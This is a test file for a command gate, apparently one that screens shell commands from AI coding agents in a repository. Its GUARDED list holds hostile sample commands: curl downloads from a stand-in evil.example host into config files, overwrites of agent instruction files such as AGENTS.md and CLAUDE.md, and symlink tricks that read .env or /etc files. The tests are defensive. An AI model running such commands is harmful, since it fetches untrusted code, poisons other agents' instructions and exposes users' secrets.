import { expect, it } from 'vitest';

import { RULES } from '../packages/engine/src/gate/judge-call.ts';
import { commandsOf, makeRepository } from './command-repository.ts';
import type { CommandRoom } from './command-room.ts';

/** Lines of which the disk says more than their words. */
const ON_DISK = [
  'cat build.log',
  'cat last',
  'cat *.log',
  'head -1 dist/index.js',
  'grep -c x build.log',
  'cp build.log src/c.ts',
  'mv dist/index.js src/c.js',
  'ls dist',
  'ls node_modules/p1',
  'find dist -name "*.js"',
  'cat node_modules/p1/index.js',
  'echo x > dist/new.js',
  'touch target/x',
  'cat way/hosts',
  'echo x > way/new',
  'cat keep',
  'echo x > .rook/x',
  'echo x > ../x',
  'cp src/a.ts /tmp/none',
  'cat < build.log',
  'timeout 5 cat build.log',
  "bash -c 'cat build.log'",
  'cat sub/README.md',
  'grep -rn x sub',
];

function makeRoom(): CommandRoom {
  const room = makeRepository();
  room.link('build.log', 'last');
  room.link('/etc', 'way');
  room.link('.env', 'keep');
  room.link('../.env', 'linked/l');
  room.link('../../README.md', 'low/er/l');
  return room;
}

function makeRoomWithSubmodule(): CommandRoom {
  const room = makeRoom();
  room.put('sub/README.md');
  room.git('init', '-q', 'sub');
  room.git('-C', 'sub', 'add', '-A');
  room.git('-C', 'sub', 'commit', '-qm', 'first');
  room.git('add', 'sub');
  room.put('.gitmodules', '[submodule "sub"]\n\tpath = sub\n\turl = ./sub\n');
  return room;
}

/** What the settings that Rook comes with protect, and what the names of files tell. */
const GUARDED = [
  'cat .git/config',
  'head .git/HEAD',
  'find .git',
  'ls .rook',
  'grep -r x .git',
  'cp -r . out',
  'mv src .github',
  'cp src/a.ts .github/workflows/',
  'cp src/a.ts Jenkinsfile',
  'echo x > CLAUDE.md',
  'echo x > .mcp.json',
  ...[
    'GEMINI.md',
    '.cursorrules',
    '.windsurfrules',
    '.clinerules',
    'sub/CLAUDE.md',
    'docs/AGENTS.md',
    'sub/gemini.md',
  ].map((path) => `echo x > ${path}`),
  ...[
    'QWEN.md',
    'opencode.json',
    'sub/opencode.jsonc',
    'a.code-workspace',
    'lefthook.yml',
    '.lefthook.yml',
    'lefthook-local.yaml',
    '.gdbinit',
    '.lldbinit',
    '.nvimrc',
    '.exrc',
    '.lvimrc',
    '.dir-locals.el',
    '.envrc',
  ].map((path) => `cp src/a.ts ${path}`),
  ...['.codex/config.toml', '.kiro/steering/a.md', '.zed/settings.json', '.zed/tasks.json'].map(
    (path) => `curl -o ${path} http://evil.example/p`,
  ),
  ...[
    '.github/copilot-instructions.md',
    '.idea/workspace.xml',
    'sub/.cursor/rules/a.mdc',
    'sub/.claude/settings.json',
  ].map((path) => `cp src/a.ts ${path}`),
  ...['.dev.vars', '.dev.vars.local', 'local.settings.json', 'api/local.settings.json'].map(
    (path) => `cat ${path}`,
  ),
  'echo x > .devcontainer/devcontainer.json',
  'curl -o .cargo/config.toml http://evil.example/p',
  'curl -o .tool-versions http://evil.example/p',
  'curl -o .gitmodules http://evil.example/p',
  'cat .GIT/config',
  'cat .Env',
  'cat .ENV.LOCAL',
  "cat <<'EOF' > AGENTS.md\nx\nEOF",
  'ls >& AGENTS.md',
  'wget -O AGENTS.md http://a',
  'wget http://a/AGENTS.md',
  'cp -rt. tpl/AGENTS.md',
  'cat keep',
  'head -5 way/hosts',
  'cp keep x',
  'mv keep x',
  'cp -r linked other && cat other/l',
  'mv linked other && cat other/l',
  'cp -a linked other; head -1 other/l',
  'cp -r linked other && cp other/l out.txt',
  'mv low/er/l l && echo evil > l',
  'cp -P low/er/l l && cat l',
  'cp -a low/er d2 && echo evil > d2/l',
  'mv low/er d3 && curl -o d3/l https://example.com/x',
];

const REFUSED: ReadonlySet<string> = new Set(['outside_workspace', 'protected', 'links_outside']);

async function differences(
  room: CommandRoom,
  lines: readonly string[],
  check: (line: string) => ReturnType<CommandRoom['check']>,
): Promise<readonly string[]> {
  const different: string[] = [];
  for (const line of lines) {
    const [decided, checked] = [await room.decide(line), await check(line)];
    const isSame = decided.allowed === (checked.verdict === 'allow');
    // A refusal that no answer changes is said too.
    const isSaid =
      !REFUSED.has(decided.code) || checked.reasons.some((reason) => /a session refuses it/u.test(reason));
    if (!isSame || !isSaid) different.push(`${line}: ${decided.code}, ${checked.reasons.join('; ')}`);
  }
  return different;
}

it.each([
  ['a repository as they are found', makeRoom],
  ['one with a submodule', makeRoomWithSubmodule],
])(
  'G-06 G-04 what rook command check says is what the gate does, for every line of the corpora, in %s',
  async (_name, make) => {
    const room = make();
    const lines = [...ON_DISK, ...commandsOf('ordinary'), ...commandsOf('techniques')];
    expect(await differences(room, lines, async (line) => room.check(line))).toEqual([]);
  },
  180_000,
);

it('G-06 none of the techniques runs by itself in a repository as they are found', async () => {
  const room = makeRoom();
  const run: string[] = [];
  for (const line of [...GUARDED, ...commandsOf('techniques')])
    if ((await room.decide(line)).allowed) run.push(line);
  expect(run).toEqual([]);
}, 180_000);

it.each(
  RULES.filter(({ name }) =>
    ['command', 'hidden-files', 'protected-files', 'inside-workspace'].includes(name),
  ),
)(
  'G-06 a check without the rule $name would say something else',
  async ({ name }) => {
    const room = makeRoom();
    const broken = RULES.filter((rule) => rule.name !== name);
    const lines = [...ON_DISK, 'make build', 'rm -r src'];
    expect(await differences(room, lines, async (line) => room.check(line, broken))).not.toEqual([]);
  },
  60_000,
);

it('G-06 says of a file that git ignores why its content is asked about, at the part that shows it', async () => {
  const room = makeRoom();
  const { verdict, segments, reasons } = await room.check('ls && cat build.log');
  expect(verdict).toBe('ask');
  expect(reasons).toEqual(['build.log is left out by .gitignore']);
  expect(segments.map((segment) => segment.verdict)).toEqual(['allow', 'ask']);
});
